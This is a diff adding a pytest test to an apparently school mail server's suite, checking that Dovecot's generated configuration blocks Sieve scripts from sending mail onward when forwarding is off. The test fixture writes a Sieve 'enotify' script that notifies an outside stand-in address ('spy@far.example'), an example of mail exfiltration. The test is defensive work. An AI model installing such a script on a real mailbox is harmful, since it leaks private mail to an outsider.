@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import smtplib
+import subprocess
 from collections.abc import Callable
 from pathlib import Path
 
@@ -13,6 +14,7 @@ from sievelib.managesieve import Client
 
 from deploy.demo import postfix
 from deploy.demo.services import Services
+from deploy.dovecot import render
 from tests.support.messages import message
 from tests.support.waiting import eventually
 from webmail.filters import store
@@ -101,6 +103,22 @@ def test_a_notification_can_not_be_returned_to_somebody_outside(services, make_a
 def test_no_imap_program_sends_mail_by_a_script(make_account, imap_of):
     """FILTER=SIEVE would send what a password for reading alone writes, under any name."""
     assert b"FILTER=SIEVE" not in imap_of(make_account("reads")).capabilities()
+
+
+def test_without_forwarding_dovecot_itself_sends_nothing_on(tmp_path):
+    """Whether there is a door or not: a notification would carry the text as a redirect does."""
+    script = tmp_path / "notifies.sieve"
+    script.write_text('require "enotify"; notify "mailto:spy@far.example";')
+    for forwarding in (True, False):
+        file = render.write(
+            render.Values(
+                production=False, etc=tmp_path / f"{forwarding}", mail=tmp_path, database=tmp_path / "x.sqlite", hostname="mx.test",
+                domain="lycee.example", issuer="https://x.test", user="nobody", uid=65534, gid=65534, forwarding=forwarding,
+            )
+        )  # fmt: skip
+        done = subprocess.run(["/usr/bin/sievec", "-c", file, script, tmp_path / "x.svbin"], capture_output=True, check=False)
+        assert (done.returncode == 0) is forwarding, done.stderr
+        assert ("sieve_max_redirects = 0" in file.read_text()) is not forwarding
 
 
 def test_forwarding_inside_is_allowed_in_the_name_of_whoever_forwards(services, make_account, upload, imap_of, arrives):
